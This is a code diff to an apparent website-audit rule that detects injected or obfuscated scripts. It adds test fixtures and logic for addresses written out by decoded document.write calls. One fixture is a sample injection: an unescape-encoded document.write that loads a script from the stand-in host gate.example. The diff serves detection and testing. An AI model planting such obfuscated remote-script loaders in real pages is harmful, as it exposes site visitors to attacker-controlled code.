@@ -20,6 +20,7 @@ from audit.rules.injected._code import (
     scripts,
     shown,
     source_of,
+    written_addresses,
 )
 from audit.rules.injected._signatures import ADVICE, CHECKS, oddness
 
@@ -29,6 +30,7 @@ if TYPE_CHECKING:
     from turbohtml import Element
 
     from audit.facts import Facts
+    from audit.facts.url import Url
     from audit.site import SiteTotals
 
 _TEXT = "<p>The boats rose with the tide and the pilots waited for the evening wind.</p>"
@@ -113,6 +115,17 @@ class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="
             note="An address for mail, hidden from robots.",
         ),
         Good(
+            f'{_TEXT}<script>document.write(unescape("%3Cscript src=\'" + scheme + "google-analytics.com/ga.js\' '
+            "type='text/javascript'%3E%3C/script%3E\"));</script>",
+            note="The signs of a tag, encoded so that they end no script; the rest stands there as it is.",
+        ),
+        Bad(
+            f'{_TEXT}<script>document.write(unescape("%3Cscript src=\'" + scheme + "gate.example/w.js\'%3E%3C/script%3E'
+            '"));</script>',
+            says="and names gate.example",
+        ),
+        Good(f"{_TEXT}<script>document.write(String.fromCharCode(60,47,97,62));</script>", note="The end of a tag."),
+        Good(
             f"{_TEXT}<pre><code>&lt;script&gt;eval(atob('…'))&lt;/script&gt;</code></pre>", note="Code that is shown."
         ),
         Good(
@@ -184,7 +197,7 @@ def _linked(node: Element, facts: Facts) -> tuple[str, _Values] | None:
     if known := [hit for hit in reading_of(url.href).hits if hit.certain]:
         return url.host, (f"comes from {url.host} and {known[0].says}", True, url.host, shown(url.href), "")
     odd = oddness(url)
-    if not odd and is_named_beside(url, node, facts):
+    if not odd and (facts.content_has_template or is_named_beside(url, node, facts)):
         return None
     says = f"comes from {url.host}, {odd}" if odd else f"comes from {url.host}, whose scripts are not known here"
     return url.host, (says, bool(odd), url.host, shown(url.href), "")
@@ -195,6 +208,11 @@ def _inline(piece: Piece, facts: Facts) -> tuple[str, _Values] | None:
     reading = piece.reading
     code = reading.code
     hits = reading.hits
+    written: Sequence[Url] = ()
+    if [hit.id for hit in hits] == ["decoded-write"] and reading.writes_openly:
+        written = written_addresses(reading, facts)
+        if not written or (facts.content_has_template and not any(map(oddness, written))):
+            hits = ()
     hidden = shown(" … ".join(reading.payloads))
     if hits and not reading.hides_only_contact():
         certain = [hit for hit in hits if hit.certain]
@@ -208,7 +226,7 @@ def _inline(piece: Piece, facts: Facts) -> tuple[str, _Values] | None:
             "hex-spelling",
         } and reading.hides_only_text():
             return None
-        hosts = inside or loaded
+        hosts = inside or loaded or written
         host = hosts[0].host if hosts else ""
         says = (certain or hits)[0].says + (f" and names {host}" if host else "")
         strong = bool(certain) or bool(hosts) or len(hits) >= _SEVERAL
@@ -218,7 +236,7 @@ def _inline(piece: Piece, facts: Facts) -> tuple[str, _Values] | None:
     for url in (*concealed_addresses(reading, facts), *loaded_addresses(reading, facts)):
         odd = oddness(url)
         concealed = url.host not in code
-        if not odd and not concealed and is_named_beside(url, piece.node, facts):
+        if not odd and not concealed and (facts.content_has_template or is_named_beside(url, piece.node, facts)):
             continue
         says = f"loads another one from {url.host}" + (f", {odd}" if odd else "")
         return url.host, (says, bool(odd) or concealed, url.host, shown(code), hidden if concealed else "")
